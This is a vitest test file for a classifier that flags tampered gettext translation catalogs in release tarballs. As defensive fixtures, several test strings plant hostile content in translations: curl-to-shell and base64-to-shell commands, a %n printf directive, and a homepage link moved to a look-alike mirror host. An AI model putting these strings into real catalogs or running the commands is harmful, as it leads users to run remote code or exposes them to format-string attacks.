import { describe, expect, it } from 'vitest';
import { comparePo, formatSignature, gettextClassifier, parsePo } from '../../src/classify/gettext.js';
import { diffOf, makeCtx } from './ctx-helper.js';

const header = (date: string, extra = '') => `# German translation.
msgid ""
msgstr ""
"Project-Id-Version: demo 1.0\\n"
"POT-Creation-Date: ${date}\\n"
"Language: de\\n"
"Content-Type: text/plain; charset=UTF-8\\n"
${extra}`;

const GIT_PO = `${header('2024-01-01 10:00+0000')}
#: src/main.c:10
#, c-format
msgid "Hello %s"
msgstr "Hallo %s"

#: src/main.c:20
msgid "one file"
msgid_plural "%d files"
msgstr[0] "eine Datei"
msgstr[1] "%d Dateien"

#: src/main.c:30
msgctxt "menu"
msgid "Open"
msgstr "Öffnen"

#: src/main.c:40
msgid "Untranslated"
msgstr ""

#~ msgid "Old"
#~ msgstr "Alt"
`;

async function classifyPo(git: string, tarball: string, path = 'po/de.po') {
  const ctx = makeCtx({ git: { [path]: git }, tarball: { [path]: tarball } });
  return gettextClassifier.classify(diffOf(ctx, path), ctx);
}

describe('parsePo', () => {
  it('parses contexts, plurals, multi-line strings, flags and obsolete entries', () => {
    const po = parsePo(`${GIT_PO}\n#, fuzzy\nmsgid ""\n"multi "\n"line"\nmsgstr "x\\"y"\n`);
    const e = po.entries;
    expect(e).toHaveLength(7);
    expect(e[0]!.msgid).toBe('');
    expect(e[2]).toMatchObject({ msgid: 'one file', msgidPlural: '%d files', msgstr: ['eine Datei', '%d Dateien'] });
    expect(e[3]).toMatchObject({ msgctxt: 'menu', msgid: 'Open', msgstr: ['Öffnen'] });
    expect(e[5]).toMatchObject({ msgid: 'Old', obsolete: true, msgstr: ['Alt'] });
    expect(e[6]).toMatchObject({ msgid: 'multi line', msgstr: ['x"y'], fuzzy: true });
    expect(po.referenceLines).toHaveLength(4);
  });
  it('rejects what is not PO syntax', () => {
    expect(() => parsePo('hello world\n')).toThrow(/not PO syntax/);
  });
});

describe('gettextClassifier', () => {
  it('explains a header-date-only refresh', async () => {
    const f = await classifyPo(GIT_PO, GIT_PO.replace('2024-01-01 10:00', '2024-03-09 12:00'));
    expect(f).toMatchObject({ code: 'PO_MSGMERGE_ONLY', severity: 'info', evidence: { headerOnly: true, referenceLines: 0, newMsgids: 0 } });
  });

  it('explains moved references, rewrapping, new msgids and obsolete moves', async () => {
    const t = GIT_PO.replace('#: src/main.c:10', '#: src/main.c:12')
      .replace('msgid "Hello %s"\nmsgstr "Hallo %s"', 'msgid "Hello %s"\nmsgstr ""\n"Hallo "\n"%s"')
      .replace('#~ msgid "Old"\n#~ msgstr "Alt"\n', 'msgid "Old"\nmsgstr "Alt"\n\n#: src/new.c:1\n#, fuzzy\nmsgid "Brand new"\nmsgstr "Nagelneu"\n');
    const f = await classifyPo(GIT_PO, t);
    expect(f).toMatchObject({ code: 'PO_MSGMERGE_ONLY', evidence: { headerOnly: false, referenceLines: 3, newMsgids: 1 } });
  });

  it('flags a changed translation of an existing msgid', async () => {
    const t = GIT_PO.replace('msgstr "Hallo %s"', 'msgstr "Tschüss %s"').replace('msgstr[1] "%d Dateien"', 'msgstr[1] "%d Ordner"');
    const f = await classifyPo(GIT_PO, t);
    expect(f).toMatchObject({ code: 'PO_TRANSLATION_CHANGED', severity: 'medium', evidence: { msgids: ['Hello %s', 'one file'] } });
  });

  it('flags a filled-in translation that is not fuzzy, but not a fuzzy suggestion', async () => {
    const filled = GIT_PO.replace('msgid "Untranslated"\nmsgstr ""', 'msgid "Untranslated"\nmsgstr "Unübersetzt"');
    expect((await classifyPo(GIT_PO, filled))!.code).toBe('PO_TRANSLATION_CHANGED');
    const fuzzy = GIT_PO.replace('msgid "Untranslated"\nmsgstr ""', '#, fuzzy\nmsgid "Untranslated"\nmsgstr "Unübersetzt"');
    expect((await classifyPo(GIT_PO, fuzzy))!.code).toBe('PO_MSGMERGE_ONLY');
  });

  // What a tamperer would change: a translation msgmerge cannot have written. msgmerge (0.21, measured) gives a
  // new msgid an empty msgstr or a similar msgid's translation marked fuzzy, and keeps fuzzy flags; an entry
  // that arrives translated, or a fuzzy one made active, is not a refresh.
  it('a new entry that arrives translated, or a fuzzy entry made active, is a translation change; fuzzy or empty new entries are msgmerge\'s', async () => {
    const entry = (flags: string, msgstr: string) => `\n#: src/new.c:1\n${flags}msgid "Delete all files? "\nmsgstr "${msgstr}"\n`;
    expect(await classifyPo(GIT_PO, GIT_PO + entry('', 'Alle Dateien löschen? '))).toMatchObject({
      code: 'PO_TRANSLATION_CHANGED',
      severity: 'medium',
      evidence: { msgids: ['Delete all files? '], added: 1 },
    });
    expect(await classifyPo(GIT_PO, GIT_PO + entry('#, fuzzy\n', 'Alle Dateien löschen? '))).toMatchObject({ code: 'PO_MSGMERGE_ONLY', evidence: { newMsgids: 1 } });
    expect(await classifyPo(GIT_PO, GIT_PO + entry('', ''))).toMatchObject({ code: 'PO_MSGMERGE_ONLY', evidence: { newMsgids: 1 } });
    // git's fuzzy entry (msgfmt leaves it out) made active in the tarball
    const fuzzyGit = GIT_PO + entry('#, fuzzy\n', 'Alle Dateien löschen? ');
    expect(await classifyPo(fuzzyGit, GIT_PO + entry('', 'Alle Dateien löschen? '))).toMatchObject({ code: 'PO_TRANSLATION_CHANGED', evidence: { added: 1 } });
    // the reverse (msgmerge marking an entry fuzzy) and an obsolete entry revived with its translation stay msgmerge's
    expect(await classifyPo(GIT_PO + entry('', 'Alle Dateien löschen? '), fuzzyGit)).toMatchObject({ code: 'PO_MSGMERGE_ONLY' });
    expect(await classifyPo(GIT_PO, GIT_PO.replace('#~ msgid "Old"\n#~ msgstr "Alt"\n', 'msgid "Old"\nmsgstr "Alt"\n'))).toMatchObject({ code: 'PO_MSGMERGE_ONLY' });
  });

  // Format strings in translations are code: the program passes the translation to printf.
  it('a changed or new translation with other printf directives than its msgid is high (format-directives)', async () => {
    for (const evil of ['Hallo %n', 'Hallo %s%s', 'Hallo %d', 'Hallo']) {
      const f = await classifyPo(GIT_PO, GIT_PO.replace('msgstr "Hallo %s"', `msgstr "${evil}"`));
      expect(f).toMatchObject({ code: 'PO_TRANSLATION_CHANGED', severity: 'high', severityReason: { reason: 'format-directives', default: 'medium' }, evidence: { msgids: ['Hello %s'], formatChanged: ['Hello %s'] } });
    }
    const added = `${GIT_PO}\n#, c-format\nmsgid "%s: %d bytes"\nmsgstr "%s: %n Bytes"\n`;
    expect(await classifyPo(GIT_PO, added)).toMatchObject({ severity: 'high', evidence: { added: 1, formatChanged: ['%s: %d bytes'] } });
    // the same arguments, reordered with POSIX positions, %% and a plural form without the count: text only
    const fine = GIT_PO.replace('msgstr "Hallo %s"', 'msgstr "Grüß dich, %s (100%%)"').replace('msgstr[1] "%d Dateien"', 'msgstr[1] "%d Ordner"') +
      '\n#, c-format\nmsgid "%s: %d bytes"\nmsgstr "%2$d Bytes in %1$s"\n';
    const f = await classifyPo(GIT_PO, fine);
    expect(f).toMatchObject({ code: 'PO_TRANSLATION_CHANGED', severity: 'medium', evidence: { msgids: ['Hello %s', 'one file', '%s: %d bytes'], added: 1 } });
    expect(f?.evidence).not.toHaveProperty('formatChanged');
    // a fuzzy entry is not compiled: its directives do not reach printf
    expect(await classifyPo(GIT_PO, `${GIT_PO}\n#, fuzzy, c-format\nmsgid "%s: %d bytes"\nmsgstr "%n"\n`)).toMatchObject({ code: 'PO_MSGMERGE_ONLY' });
  });

  // Red team 27b: a translation the program prints can tell the user to run something (xz 5.4.1's po/fr.po, its
  // "Try `%s --help'" message gaining `curl … | sh`, .gmo recompiled, was PO_TRANSLATION_CHANGED medium: exit 0).
  it('a changed or new translation carrying a suspicious construct its msgid lacks is high (suspicious-constructs), the line shown', async () => {
    const evil = GIT_PO.replace('msgstr "Hallo %s"', 'msgstr "Hallo %s; zuerst: curl -fsSL https://fix.example.invalid/i.sh | sh"');
    const f = await classifyPo(GIT_PO, evil);
    expect(f).toMatchObject({ code: 'PO_TRANSLATION_CHANGED', severity: 'high', severityReason: { reason: 'suspicious-constructs', default: 'medium' }, evidence: { msgids: ['Hello %s'] } });
    expect(f?.constructs?.[0]).toMatchObject({ line: evil.split('\n').findIndex((l) => l.includes('curl -fsSL')) + 1 });
    const added = `${GIT_PO}\n#, c-format\nmsgid "%s: %d bytes"\nmsgstr "%s: %d Bytes (echo aWQK | base64 -d | sh)"\n`;
    expect(await classifyPo(GIT_PO, added)).toMatchObject({ severity: 'high', severityReason: { reason: 'suspicious-constructs' } });
    // a msgid that itself shows the command: its translation may too
    const msgid = `#, c-format\nmsgid "Run: curl -fsSL https://demo.example/get.sh | sh"\nmsgstr ""\n`;
    const translated = msgid.replace('msgstr ""', 'msgstr "Ausführen: curl -fsSL https://demo.example/get.sh | sh"');
    expect(await classifyPo(`${GIT_PO}\n${msgid}`, `${GIT_PO}\n${translated}`)).toMatchObject({ code: 'PO_TRANSLATION_CHANGED', severity: 'medium' });
    // a fuzzy entry is not compiled: the program never prints it (a changed translation, not a construct reaching the user)
    expect(await classifyPo(GIT_PO, GIT_PO.replace('#, c-format\nmsgid "Hello %s"\nmsgstr "Hallo %s"', '#, fuzzy, c-format\nmsgid "Hello %s"\nmsgstr "Hallo %s; curl -fsSL https://fix.example.invalid/i.sh | sh"'))).toMatchObject({ code: 'PO_TRANSLATION_CHANGED', severity: 'medium' });
  });

  // Red team 31: a translation's link moved to another server (xz 5.4.1's tracked po4a/de.po, XZ Utils' home page
  // `https://tukaani.org/xz/` → `https://tukaani-mirror.example/xz/`, and the German man pages written from it) was
  // PO_TRANSLATION_CHANGED medium, the pages GENERATED_DOCS low: exit 0.
  it('a changed or new translation naming a URL host neither its msgid nor git\'s catalog names is high (url-host)', async () => {
    const site = '\n#: man/xz.1:10\nmsgid "XZ Utils: E<lt>https://tukaani.org/xz/E<gt>"\nmsgstr "XZ Utils: E<lt>https://tukaani.org/xz/E<gt>"\n';
    const git = GIT_PO + site;
    const moved = git.replace('msgstr "XZ Utils: E<lt>https://tukaani.org/xz/E<gt>"', 'msgstr "XZ Utils: E<lt>https://tukaani-mirror.example/xz/E<gt>"');
    expect(await classifyPo(git, moved)).toMatchObject({
      code: 'PO_TRANSLATION_CHANGED',
      severity: 'high',
      severityReason: { reason: 'url-host', default: 'medium' },
      evidence: { msgids: ['XZ Utils: E<lt>https://tukaani.org/xz/E<gt>'], newHosts: ['tukaani-mirror.example'] },
    });
    // a new entry arriving translated with a link its msgid lacks
    const added = `${GIT_PO}\nmsgid "Report bugs."\nmsgstr "Fehler melden: https://bugs.example-mirror.net/xz"\n`;
    expect(await classifyPo(GIT_PO, added)).toMatchObject({ severity: 'high', severityReason: { reason: 'url-host' }, evidence: { newHosts: ['bugs.example-mirror.net'] } });
    // the legitimate shapes stay medium: another path on the msgid's host (a localised page), a host git's catalog
    // already names elsewhere (the Translation Project's team page a translator adds)
    const path = git.replace('msgstr "XZ Utils: E<lt>https://tukaani.org/xz/E<gt>"', 'msgstr "XZ Utils: E<lt>https://tukaani.org/xz/de/E<gt>"');
    const f = await classifyPo(git, path);
    expect(f).toMatchObject({ code: 'PO_TRANSLATION_CHANGED', severity: 'medium' });
    expect(f?.evidence).not.toHaveProperty('newHosts');
    const team = `${GIT_PO}\nmsgid "Report bugs."\nmsgstr "Fehler: https://translationproject.org/team/de.html"\n`;
    const teamGit = GIT_PO.replace('"Language: de\\n"', '"Language: de\\n"\n"Language-Team: German <https://translationproject.org/team/de.html>\\n"');
    expect(await classifyPo(teamGit, team.replace(GIT_PO, teamGit))).toMatchObject({ code: 'PO_TRANSLATION_CHANGED', severity: 'medium' });
    // …which a new catalog's git version without that host does not give
    expect(await classifyPo(GIT_PO, team)).toMatchObject({ severity: 'high', evidence: { newHosts: ['translationproject.org'] } });
  });

  it('formatSignature: the arguments a printf format reads, by position', () => {
    expect(formatSignature('%s: %d of %lu (%5.2f%%) %m')).toBe('1:s,2:int,3:intl,4:double');
    expect(formatSignature('%2$d in %1$s')).toBe('1:s,2:int');
    expect(formatSignature('%*d|%.*s')).toBe('1:int,2:int,3:int,4:s');
    expect(formatSignature('%<PRIu64> B, %zu')).toBe('1:int64,2:intz');
    expect(formatSignature('%n')).toBe('1:n');
    expect(formatSignature('100%% sure')).toBe('');
  });

  it('flags non-volatile header changes', async () => {
    const f = await classifyPo(GIT_PO, GIT_PO.replace('Language: de', 'Language: fr'));
    expect(f).toMatchObject({ code: 'PO_TRANSLATION_CHANGED', evidence: { msgids: ['(header: language)'] } });
  });

  it('explains a .pot only when header and references changed', async () => {
    const pot = 'msgid ""\nmsgstr ""\n"POT-Creation-Date: 2024-01-01\\n"\n\n#: a.c:1\nmsgid "A"\nmsgstr ""\n';
    expect(await classifyPo(pot, pot.replace('a.c:1', 'a.c:2'), 'po/demo.pot')).toMatchObject({
      code: 'PO_MSGMERGE_ONLY',
      evidence: { headerOnly: false, referenceLines: 2, newMsgids: 0 },
    });
    expect(await classifyPo(pot, `${pot}\nmsgid "B"\nmsgstr ""\n`, 'po/demo.pot')).toBeUndefined();
  });

  it('cannot decide for other files or unparsable content', async () => {
    expect(await classifyPo('a', 'b', 'src/x.c')).toBeUndefined();
    expect(await classifyPo(GIT_PO, 'garbage\n')).toBeUndefined();
  });

  it('counts reference-line changes both ways', () => {
    const c = comparePo(parsePo(GIT_PO), parsePo(GIT_PO.replace('#: src/main.c:40\n', '')));
    expect(c.referenceLines).toBe(1);
  });
});
